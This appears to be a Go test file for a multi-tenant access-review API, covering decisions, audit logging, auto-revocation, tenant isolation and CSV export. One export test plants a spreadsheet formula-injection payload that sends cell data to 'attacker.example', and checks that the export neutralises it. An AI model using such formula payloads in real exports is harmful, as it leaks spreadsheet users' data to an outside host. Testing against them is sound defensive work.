package httpapi_test

import (
	"encoding/csv"
	"encoding/json"
	"slices"
	"strings"
	"testing"
	"time"

	"tutela"
	"tutela/sqlstore"
	"tutela/sqlstore/sqltest"
)

type arItem struct {
	ID          string `json:"id"`
	UserID      string `json:"user_id"`
	UserEmail   string `json:"user_email"`
	Kind        string `json:"kind"`
	Description string `json:"description"`
	Dormant     bool   `json:"dormant"`
	Decision    string `json:"decision"`
	DecidedBy   string `json:"decided_by"`
	Outcome     string `json:"outcome"`
}

type arReview struct {
	ID         string         `json:"id"`
	Status     string         `json:"status"`
	AutoRevoke bool           `json:"auto_revoke"`
	Dormant    int            `json:"dormant_days"`
	Counts     map[string]int `json:"counts"`
	Items      []arItem       `json:"items"`
}

func arDeadline(e *env, d time.Duration) string {
	return e.clock.Now().Add(d).UTC().Format(time.RFC3339Nano)
}

// arOpen opens a review of tenant as auth and returns it.
func (e *env) arOpen(t *testing.T, tenantID, body string, auth any) arReview {
	t.Helper()
	res, b := e.req(t, "POST", "/v1/tenants/"+tenantID+"/access-reviews", body, "", auth)
	if res.StatusCode != 201 {
		t.Fatalf("open review: %d %s", res.StatusCode, b)
	}
	var r arReview
	if err := json.Unmarshal(b, &r); err != nil {
		t.Fatal(err)
	}
	return r
}

func (e *env) arGet(t *testing.T, tenantID, reviewID, query string, auth any) arReview {
	t.Helper()
	res, b := e.req(t, "GET", "/v1/tenants/"+tenantID+"/access-reviews/"+reviewID+query, "", "", auth)
	if res.StatusCode != 200 {
		t.Fatalf("get review: %d %s", res.StatusCode, b)
	}
	var r arReview
	if err := json.Unmarshal(b, &r); err != nil {
		t.Fatal(err)
	}
	return r
}

func arFind(t *testing.T, items []arItem, userID, grant string) arItem {
	t.Helper()
	for _, it := range items {
		if it.UserID == userID && it.Description == grant {
			return it
		}
	}
	t.Fatalf("no item %q for %s in %+v", grant, userID, items)
	return arItem{}
}

func arDecideBody(decision, comment string) string {
	b, _ := json.Marshal(map[string]string{"decision": decision, "comment": comment})
	return string(b)
}

func TestAccessReview_DecisionsRevokeAtOnceAndAreAudited(t *testing.T) {
	t.Parallel()
	for _, d := range sqltest.Dialects {
		t.Run(string(d), func(t *testing.T) {
			t.Parallel()
			e := newEnv(t, d, nil)
			tn, admin := e.seed(t, "acme", "admin@example.org", pw, "program_admin")
			_, aud := e.seed(t, "acme", "auditor@example.org", pw, "auditor")
			_, op := e.seed(t, "acme", "op@example.org", pw, "operator")
			a := e.login(t, "acme", "admin@example.org", pw, "")
			au := e.login(t, "acme", "auditor@example.org", pw, "")
			o := e.login(t, "acme", "op@example.org", pw, "")
			// A per-user allow is reviewed too; a deny is not.
			base := "/v1/tenants/" + tn.ID
			for _, body := range []string{`{"resource":"records","action":"EXPORT","max_classification":"GREEN","effect":"allow"}`,
				`{"resource":"records","action":"PUBLISH","effect":"deny"}`} {
				if res, b := e.req(t, "POST", base+"/users/"+op.ID+"/permissions", body, "", a.AccessToken); res.StatusCode != 201 {
					t.Fatalf("grant: %d %s", res.StatusCode, b)
				}
			}

			r := e.arOpen(t, tn.ID, `{"deadline":"`+arDeadline(e, 14*24*time.Hour)+`"}`, a.AccessToken)
			if r.Status != "open" || r.Dormant != 90 || r.AutoRevoke || r.Counts["items"] != 4 {
				t.Fatalf("opened %+v", r)
			}
			r = e.arGet(t, tn.ID, r.ID, "", a.AccessToken)
			var grants []string
			for _, it := range r.Items {
				grants = append(grants, it.Description)
			}
			slices.Sort(grants)
			if want := []string{"allow records:EXPORT≤GREEN", "role auditor", "role operator", "role program_admin"}; !slices.Equal(grants, want) {
				t.Fatalf("items %q, want %q", grants, want)
			}
			path := func(it arItem) string { return base + "/access-reviews/" + r.ID + "/items/" + it.ID }
			opRole := arFind(t, r.Items, op.ID, "role operator")
			opPerm := arFind(t, r.Items, op.ID, "allow records:EXPORT≤GREEN")
			audRole := arFind(t, r.Items, aud.ID, "role auditor")
			adminRole := arFind(t, r.Items, admin.ID, "role program_admin")

			// Before: the operator reads users.
			if res, b := e.req(t, "GET", base+"/users", "", "", o.AccessToken); res.StatusCode != 200 {
				t.Fatalf("operator list users before review: %d %s", res.StatusCode, b)
			}
			// Reviewers cannot decide on their own grants, whatever they decide.
			res, b := e.req(t, "POST", path(adminRole), arDecideBody("keep", ""), "", a.AccessToken)
			wantError(t, res, b, 403, tutela.EFORBIDDEN)
			res, b = e.req(t, "POST", path(audRole), arDecideBody("keep", ""), "", au.AccessToken)
			wantError(t, res, b, 403, tutela.EFORBIDDEN)
			res, b = e.req(t, "POST", path(opRole), arDecideBody("maybe", ""), "", au.AccessToken)
			if eb := wantError(t, res, b, 400, tutela.EINVALID); eb.Error.Field != "decision" {
				t.Fatalf("field %q", eb.Error.Field)
			}
			// The last programme administrator cannot be reviewed away.
			res, b = e.req(t, "POST", path(adminRole), arDecideBody("revoke", ""), "", au.AccessToken)
			wantError(t, res, b, 409, tutela.ECONFLICT)

			// The auditor revokes the operator's role: the operator's very next request is denied.
			res, b = e.req(t, "POST", path(opRole), arDecideBody("revoke", "moved to another programme"), "", au.AccessToken)
			var decided arItem
			_ = json.Unmarshal(b, &decided)
			if res.StatusCode != 200 || decided.Decision != "revoke" || decided.DecidedBy != aud.ID {
				t.Fatalf("revoke: %d %s", res.StatusCode, b)
			}
			res, b = e.req(t, "GET", base+"/users", "", "", o.AccessToken)
			wantError(t, res, b, 403, tutela.EFORBIDDEN)
			if res, b := e.req(t, "POST", path(opPerm), arDecideBody("revoke", ""), "", a.AccessToken); res.StatusCode != 200 {
				t.Fatalf("revoke permission: %d %s", res.StatusCode, b)
			}
			if dec := e.check(t, a.AccessToken, `{"user_id":"`+op.ID+`","action":"EXPORT","resource":"records"}`); dec.Allow {
				t.Fatalf("revoked permission still allows: %s", dec.Reason)
			}
			// Keep leaves access; a decision is final.
			if res, b := e.req(t, "POST", path(audRole), arDecideBody("keep", "still auditing"), "", a.AccessToken); res.StatusCode != 200 {
				t.Fatalf("keep: %d %s", res.StatusCode, b)
			}
			res, b = e.req(t, "POST", path(opRole), arDecideBody("keep", ""), "", a.AccessToken)
			wantError(t, res, b, 409, tutela.ECONFLICT)
			if res, b := e.req(t, "GET", base+"/roles", "", "", au.AccessToken); res.StatusCode != 200 {
				t.Fatalf("kept auditor lost access: %d %s", res.StatusCode, b)
			}

			pending := e.arGet(t, tn.ID, r.ID, "?pending=true", au.AccessToken)
			if len(pending.Items) != 1 || pending.Items[0].ID != adminRole.ID || pending.Counts["pending"] != 1 || pending.Counts["revoked"] != 2 {
				t.Fatalf("pending %+v", pending)
			}
			res, b = e.req(t, "GET", base+"/access-reviews/"+r.ID+"?pending=maybe", "", "", au.AccessToken)
			wantError(t, res, b, 400, tutela.EINVALID)
			res, b = e.req(t, "GET", base+"/access-reviews", "", "", au.AccessToken)
			var list struct {
				Reviews []arReview `json:"access_reviews"`
			}
			_ = json.Unmarshal(b, &list)
			if res.StatusCode != 200 || len(list.Reviews) != 1 || list.Reviews[0].ID != r.ID || list.Reviews[0].Items != nil {
				t.Fatalf("list: %d %s", res.StatusCode, b)
			}

			// Every decision is in the audit log, attributed to its reviewer, and each revocation
			// also as the grant change it is.
			recs, _, err := e.db.AuditEvents(ctxBG, sqlstore.AuditFilter{TenantID: tn.ID, Action: "access_review.decide", Limit: 100})
			if err != nil {
				t.Fatal(err)
			}
			byActor := map[string]int{}
			for _, rec := range recs {
				byActor[rec.Event.ActorID]++
				if rec.Event.TargetType != "access_review_item" || rec.Event.Details["review_id"] != r.ID {
					t.Errorf("decision event %+v", rec.Event)
				}
			}
			if len(recs) != 3 || byActor[aud.ID] != 1 || byActor[admin.ID] != 2 {
				t.Fatalf("decision events %d by actor %v", len(recs), byActor)
			}
			for _, action := range []string{"user.role_revoke", "user.permission_revoke", "access_review.open"} {
				if recs, _, _ := e.db.AuditEvents(ctxBG, sqlstore.AuditFilter{TenantID: tn.ID, Action: action}); len(recs) != 1 {
					t.Errorf("%s events = %d, want 1", action, len(recs))
				}
			}
		})
	}
}

func TestAccessReview_CloseAutoRevokesUnreviewedButNotLastAdmin(t *testing.T) {
	t.Parallel()
	e := newEnv(t, sqlstore.SQLite, nil)
	tn, admin := e.seed(t, "acme", "admin@example.org", pw, "program_admin")
	_, op := e.seed(t, "acme", "op@example.org", pw, "operator")
	_, keep := e.seed(t, "acme", "keep@example.org", pw, "operator")
	a := e.login(t, "acme", "admin@example.org", pw, "")
	r := e.arOpen(t, tn.ID, `{"deadline":"`+arDeadline(e, time.Hour)+`","auto_revoke":true,"dormant_days":30}`, a.AccessToken)
	if !r.AutoRevoke || r.Dormant != 30 {
		t.Fatalf("opened %+v", r)
	}
	r = e.arGet(t, tn.ID, r.ID, "", a.AccessToken)
	base := "/v1/tenants/" + tn.ID + "/access-reviews/" + r.ID
	if res, b := e.req(t, "POST", base+"/items/"+arFind(t, r.Items, keep.ID, "role operator").ID, arDecideBody("keep", ""), "", a.AccessToken); res.StatusCode != 200 {
		t.Fatalf("keep: %d %s", res.StatusCode, b)
	}
	// Past the deadline nobody decides any more; the review waits to be closed.
	e.clock.Add(2 * time.Hour)
	a = e.login(t, "acme", "admin@example.org", pw, "")
	res, b := e.req(t, "POST", base+"/items/"+arFind(t, r.Items, op.ID, "role operator").ID, arDecideBody("keep", ""), "", a.AccessToken)
	wantError(t, res, b, 409, tutela.ECONFLICT)

	res, b = e.req(t, "POST", base+"/close", "", "", a.AccessToken)
	if res.StatusCode != 200 {
		t.Fatalf("close: %d %s", res.StatusCode, b)
	}
	var closed struct {
		Review    arReview `json:"review"`
		Undecided []arItem `json:"undecided"`
	}
	_ = json.Unmarshal(b, &closed)
	if closed.Review.Status != "closed" || len(closed.Undecided) != 2 {
		t.Fatalf("closed %s", b)
	}
	if it := arFind(t, closed.Undecided, op.ID, "role operator"); it.Outcome != "auto_revoked" {
		t.Fatalf("operator outcome %q", it.Outcome)
	}
	if it := arFind(t, closed.Undecided, admin.ID, "role program_admin"); it.Outcome != "last_admin_kept" {
		t.Fatalf("last admin outcome %q", it.Outcome)
	}
	if dec := e.check(t, a.AccessToken, `{"user_id":"`+op.ID+`","action":"READ","resource":"records"}`); dec.Allow {
		t.Fatal("auto-revoked operator still allowed")
	}
	if dec := e.check(t, a.AccessToken, `{"user_id":"`+keep.ID+`","action":"READ","resource":"records"}`); !dec.Allow {
		t.Fatal("kept operator lost access")
	}
	// The admin still administers: the last programme administrator was reported, not revoked.
	if res, b := e.req(t, "GET", "/v1/tenants/"+tn.ID+"/users", "", "", a.AccessToken); res.StatusCode != 200 {
		t.Fatalf("admin after close: %d %s", res.StatusCode, b)
	}
	res, b = e.req(t, "POST", base+"/close", "", "", a.AccessToken)
	wantError(t, res, b, 409, tutela.ECONFLICT)
	for action, n := range map[string]int{"access_review.close": 1, "access_review.auto_revoked": 1, "access_review.last_admin_kept": 1} {
		if recs, _, _ := e.db.AuditEvents(ctxBG, sqlstore.AuditFilter{TenantID: tn.ID, Action: action, ActorID: admin.ID}); len(recs) != n {
			t.Errorf("%s events by the closer = %d, want %d", action, len(recs), n)
		}
	}
}

func TestAccessReview_ExportCSVParsesFlagsDormantAndNeutralisesFormulas(t *testing.T) {
	t.Parallel()
	e := newEnv(t, sqlstore.SQLite, nil)
	tn, _ := e.seed(t, "acme", "admin@example.org", pw, "program_admin")
	e.seed(t, "acme", "auditor@example.org", pw, "auditor")
	_, evil := e.seed(t, "acme", "=1+2@example.org", pw, "operator")
	_, sleepy := e.seed(t, "acme", "sleepy@example.org", pw, "operator")
	e.login(t, "acme", "sleepy@example.org", pw, "")
	lastSeen := e.clock.Now().UTC().Format(time.RFC3339)
	// Two days without a sign-in is dormant for a review that says one day is (the signing keys
	// would expire long before a real 90 days passed on this clock).
	e.clock.Add(48 * time.Hour)
	a := e.login(t, "acme", "admin@example.org", pw, "")
	aud := e.login(t, "acme", "auditor@example.org", pw, "")
	e.login(t, "acme", "=1+2@example.org", pw, "")
	r := e.arOpen(t, tn.ID, `{"deadline":"`+arDeadline(e, 24*time.Hour)+`","dormant_days":1}`, a.AccessToken)
	r = e.arGet(t, tn.ID, r.ID, "", a.AccessToken)
	comment := `=HYPERLINK("http://attacker.example/?"&A1,"click")`
	item := arFind(t, r.Items, evil.ID, "role operator")
	if res, b := e.req(t, "POST", "/v1/tenants/"+tn.ID+"/access-reviews/"+r.ID+"/items/"+item.ID, arDecideBody("keep", comment), "", a.AccessToken); res.StatusCode != 200 {
		t.Fatalf("keep: %d %s", res.StatusCode, b)
	}

	export := func(auth any) map[string][]string {
		t.Helper()
		res, b := e.req(t, "GET", "/v1/tenants/"+tn.ID+"/access-reviews/"+r.ID+"/export.csv", "", "", auth)
		if res.StatusCode != 200 || !strings.HasPrefix(res.Header.Get("Content-Type"), "text/csv") ||
			!strings.HasPrefix(res.Header.Get("Content-Disposition"), "attachment;") || res.Header.Get("X-Content-Type-Options") != "nosniff" {
			t.Fatalf("export: %d %v", res.StatusCode, res.Header)
		}
		rows, err := csv.NewReader(strings.NewReader(string(b))).ReadAll()
		if err != nil {
			t.Fatalf("export is not CSV: %v\n%s", err, b)
		}
		want := []string{"user_id", "user_email", "kind", "grant", "last_login_at", "dormant", "decision", "decided_by", "decided_at", "comment"}
		if !slices.Equal(rows[0], want) {
			t.Fatalf("header %q", rows[0])
		}
		byKey := map[string][]string{}
		for _, row := range rows[1:] {
			byKey[row[0]+" "+row[3]] = row
			for _, cell := range row {
				if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
					t.Errorf("cell %q would run as a formula", cell)
				}
			}
		}
		if len(byKey) != 4 {
			t.Fatalf("rows %q", rows)
		}
		return byKey
	}
	rows := export(a.AccessToken)
	ev := rows[evil.ID+" role operator"]
	if ev[1] != "'=1+2@example.org" || ev[9] != "'"+comment || ev[6] != "keep" || ev[5] != "false" {
		t.Fatalf("formula row %q", ev)
	}
	sl := rows[sleepy.ID+" role operator"]
	if sl[5] != "true" || sl[4] != lastSeen || sl[6] != "" {
		t.Fatalf("dormant row %q (last seen %s)", sl, lastSeen)
	}
	for k, row := range rows {
		if !strings.HasPrefix(k, sleepy.ID) && row[5] != "false" {
			t.Errorf("recently active user flagged dormant: %q", row)
		}
	}
	// The auditor (GREEN clearance) may export, and sees e-mail addresses masked as everywhere.
	for _, row := range export(aud.AccessToken) {
		if strings.Contains(row[1], "sleepy@") || (row[1] != "" && !strings.Contains(row[1], "***@example.org")) {
			t.Errorf("auditor export shows %q", row[1])
		}
	}
}

func TestAccessReview_OperatorForbiddenAndValidation(t *testing.T) {
	t.Parallel()
	e := newEnv(t, sqlstore.SQLite, nil)
	tn, admin := e.seed(t, "acme", "admin@example.org", pw, "program_admin")
	e.seed(t, "acme", "op@example.org", pw, "operator")
	a := e.login(t, "acme", "admin@example.org", pw, "")
	o := e.login(t, "acme", "op@example.org", pw, "")
	r := e.arOpen(t, tn.ID, `{"deadline":"`+arDeadline(e, time.Hour)+`"}`, a.AccessToken)
	r = e.arGet(t, tn.ID, r.ID, "", a.AccessToken)
	base := "/v1/tenants/" + tn.ID + "/access-reviews"
	adminItem := arFind(t, r.Items, admin.ID, "role program_admin")
	for _, c := range []struct{ method, path, body string }{
		{"POST", base, `{"deadline":"` + arDeadline(e, time.Hour) + `"}`},
		{"GET", base, ""},
		{"GET", base + "/" + r.ID, ""},
		{"POST", base + "/" + r.ID + "/items/" + adminItem.ID, arDecideBody("revoke", "")},
		{"POST", base + "/" + r.ID + "/close", ""},
		{"GET", base + "/" + r.ID + "/export.csv", ""},
	} {
		res, b := e.req(t, c.method, c.path, c.body, "", o.AccessToken)
		wantError(t, res, b, 403, tutela.EFORBIDDEN)
	}
	for body, field := range map[string]string{
		`{}`: "deadline",
		`{"deadline":"` + arDeadline(e, -time.Minute) + `"}`:                  "deadline",
		`{"deadline":"` + arDeadline(e, 367*24*time.Hour) + `"}`:              "deadline",
		`{"deadline":"` + arDeadline(e, time.Hour) + `","dormant_days":0}`:    "dormant_days",
		`{"deadline":"` + arDeadline(e, time.Hour) + `","dormant_days":3651}`: "dormant_days",
		`{"deadline":"` + arDeadline(e, time.Hour) + `","reviewers":["x"]}`:   "reviewers",
		`{"deadline":"` + arDeadline(e, time.Hour) + `","auto_revoke":"yes"}`: "auto_revoke",
	} {
		res, b := e.req(t, "POST", base, body, "", a.AccessToken)
		if eb := wantError(t, res, b, 400, tutela.EINVALID); eb.Error.Field != field {
			t.Errorf("%s: field %q, want %q", body, eb.Error.Field, field)
		}
	}
}

func TestAccessReview_CrossTenantReviewAndItemIDsAre404(t *testing.T) {
	t.Parallel()
	e := newEnv(t, sqlstore.SQLite, nil)
	ta, _ := e.seed(t, "tenant-a", "admin-a@example.org", pw, "program_admin")
	e.seed(t, "tenant-a", "op-a@example.org", pw, "operator")
	tb, _ := e.seed(t, "tenant-b", "admin-b@example.org", pw, "program_admin")
	a := e.login(t, "tenant-a", "admin-a@example.org", pw, "")
	b := e.login(t, "tenant-b", "admin-b@example.org", pw, "")
	ra := e.arOpen(t, ta.ID, `{"deadline":"`+arDeadline(e, time.Hour)+`"}`, a.AccessToken)
	ra = e.arGet(t, ta.ID, ra.ID, "", a.AccessToken)
	rb := e.arOpen(t, tb.ID, `{"deadline":"`+arDeadline(e, time.Hour)+`"}`, b.AccessToken)
	itemA := ra.Items[0].ID
	// Tenant B's admin, in their own tenant's path, with tenant A's review and item IDs; and in
	// tenant A's path. Both look exactly like IDs that do not exist.
	for _, c := range []struct{ method, path, body string }{
		{"GET", "/v1/tenants/" + tb.ID + "/access-reviews/" + ra.ID, ""},
		{"GET", "/v1/tenants/" + tb.ID + "/access-reviews/" + ra.ID + "/export.csv", ""},
		{"POST", "/v1/tenants/" + tb.ID + "/access-reviews/" + ra.ID + "/items/" + itemA, arDecideBody("revoke", "")},
		{"POST", "/v1/tenants/" + tb.ID + "/access-reviews/" + rb.ID + "/items/" + itemA, arDecideBody("revoke", "")},
		{"POST", "/v1/tenants/" + tb.ID + "/access-reviews/" + ra.ID + "/close", ""},
		{"GET", "/v1/tenants/" + ta.ID + "/access-reviews", ""},
		{"GET", "/v1/tenants/" + ta.ID + "/access-reviews/" + ra.ID, ""},
		{"POST", "/v1/tenants/" + ta.ID + "/access-reviews/" + ra.ID + "/items/" + itemA, arDecideBody("revoke", "")},
		{"POST", "/v1/tenants/" + ta.ID + "/access-reviews/" + ra.ID + "/close", ""},
		{"GET", "/v1/tenants/" + tb.ID + "/access-reviews/" + tutela.NewID(), ""},
		{"GET", "/v1/tenants/" + tb.ID + "/access-reviews/not-an-id", ""},
		{"POST", "/v1/tenants/" + tb.ID + "/access-reviews/" + rb.ID + "/items/not-an-id", arDecideBody("keep", "")},
	} {
		res, body := e.req(t, c.method, c.path, c.body, "", b.AccessToken)
		wantError(t, res, body, 404, tutela.ENOTFOUND)
	}
	// Tenant A's review is untouched.
	if got := e.arGet(t, ta.ID, ra.ID, "", a.AccessToken); got.Status != "open" || got.Counts["pending"] != len(ra.Items) {
		t.Fatalf("tenant A's review changed: %+v", got)
	}
}
